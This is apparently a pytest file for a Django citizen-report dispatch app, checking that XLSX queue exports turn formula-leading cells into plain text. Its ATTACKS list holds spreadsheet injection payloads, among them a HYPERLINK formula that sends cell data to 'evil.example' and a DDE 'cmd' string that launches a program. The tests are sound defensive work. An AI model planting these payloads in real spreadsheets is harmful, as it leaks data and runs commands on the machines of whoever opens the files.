"""Exports never carry a formula a citizen typed (CSV/XLSX injection): the queue export as the attacker would try it."""
import io

import pytest
from openpyxl import load_workbook

from apps.gbcp import spreadsheet

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_start_becomes_text(text):
    assert spreadsheet.cell(text) == "'" + text


@pytest.mark.parametrize("value", ["东华门大街路灯不亮", "", None, 42, -3.5, "1-2号楼"])
def test_other_values_pass_unchanged(value):
    assert spreadsheet.cell(value) == value


@pytest.mark.django_db
def test_the_queue_export_stores_a_citizens_formula_as_text(client, insider):
    from apps.dispatch import services
    from apps.dispatch.models import Source, Task

    task = services.task_intake(user=None, source=Source.CITIZEN, description=ATTACKS[0], point=None, address="=1+2",
                                reporter_name="@张三").report
    Task.objects.filter(pk=task.pk).update(region_code="110101")
    client.force_login(insider)
    response = client.get("/dispatch/?format=xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not any(cell.data_type == "f" for cell in cells)
    assert any(cell.value == "'" + ATTACKS[0] for cell in cells)
